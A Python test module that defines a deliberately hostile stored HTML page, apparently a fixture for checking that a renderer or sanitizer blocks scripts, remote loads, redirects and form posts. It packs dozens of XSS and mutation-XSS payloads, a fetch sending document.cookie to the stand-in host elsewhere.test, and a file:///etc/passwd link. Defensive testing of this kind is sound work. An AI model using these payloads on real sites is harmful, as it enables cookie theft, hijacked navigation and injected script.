"""A stored page that tries everything to run, send, load, lead away or read what is not its own."""

# ruff: noqa: E501 - markup whose line ends would change what it does

from __future__ import annotations

FAR = "https://elsewhere.test"
RUN = "document.title='ran';document.cookie='ran=1;path=/';top.location='https://elsewhere.test/top'"
HOSTILE_PAGE = f"""<!doctype html><html onclick="{RUN}"><head><meta charset="utf-8"><title>stored</title>
<script>fetch('{FAR}/' + document.cookie); {RUN}; parent.postMessage('ran', '*')</script>
<script src="{FAR}/a.js"></script><script type="module">import '{FAR}/m.js'</script>
<meta http-equiv="refresh" content="0;url={FAR}/refresh">
<meta http-equiv="Set-Cookie" content="ran=1"><meta http-equiv="content-security-policy" content="">
<base href="{FAR}/base/" target="_top">
<link rel="stylesheet" href="{FAR}/a.css"><link rel="preload" as="image" href="{FAR}/p.png">
<link rel="prefetch" href="{FAR}/f"><link rel="dns-prefetch" href="{FAR}"><link rel="icon" href="{FAR}/i.ico">
<link rel="manifest" href="{FAR}/m.json"><link rel="import" href="{FAR}/i.html">
<style>@import url("{FAR}/b.css"); @font-face {{ font-family: f; src: url("{FAR}/f.woff") }}
body {{ background: url("{FAR}/bg.png"); font-family: f }} a[href*=a] {{ content: url("{FAR}/leak") }}</style>
</head><body onload="{RUN}" onpageshow="{RUN}" background="{FAR}/bg2.png">
<h1>正文仍在</h1>
<img src="{FAR}/a.png" srcset="{FAR}/b.png 2x" onerror="{RUN}"><picture><source srcset="{FAR}/c.png"></picture>
<img src="x" onerror="{RUN}"><input autofocus onfocus="{RUN}"><details open ontoggle="{RUN}"><summary>细</summary></details>
<video src="{FAR}/v.mp4" poster="{FAR}/v.png" autoplay onerror="{RUN}"></video><audio src="{FAR}/a.mp3" autoplay></audio>
<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" attributeName="x" dur="1s"/>
<use href="data:image/svg+xml,<svg id='x'><script>{RUN}</script></svg>#x"/><image href="{FAR}/s.png"/>
<a xlink:href="javascript:{RUN}"><text y="20">svg</text></a><foreignObject><iframe src="{FAR}/fo"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
<iframe src="{FAR}/frame"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src="javascript:{RUN}"></iframe>
<object data="data:text/html,<script>{RUN}</script>"></object><embed src="{FAR}/e.swf">
<object data="{FAR}/o"></object><applet code="{FAR}/x"></applet>
<form id="f" action="{FAR}/post" method="post" target="_top"><input name="q" value="1"><button id="send">送出</button></form>
<button id="far" form="f" formaction="{FAR}/formaction">另送</button><input id="image" form="f" type="image" src="{FAR}/i.png" alt="图">
<a id="script" href="javascript:{RUN}">脚本</a><a id="data" href="data:text/html,<script>{RUN}</script>">数据</a>
<a id="spaced" href=" java&#10;script:{RUN}">空格</a><a id="top" href="{FAR}/link" target="_top" ping="{FAR}/ping">离开</a>
<a id="blank" href="{FAR}/blank" target="_blank">新窗</a><a id="relative" href="relative.html">相对</a>
<a id="file" href="file:///etc/passwd" download>文件</a><map name="m"><area id="area" href="{FAR}/area" shape="default"></map>
<div style="background:url({FAR}/style.png);position:fixed;inset:0;z-index:9" onmouseover="{RUN}">盖住</div>
<template><script>{RUN}</script></template><p>{{{{7*7}}}} {{% raw %}} </p>
</body></html>"""
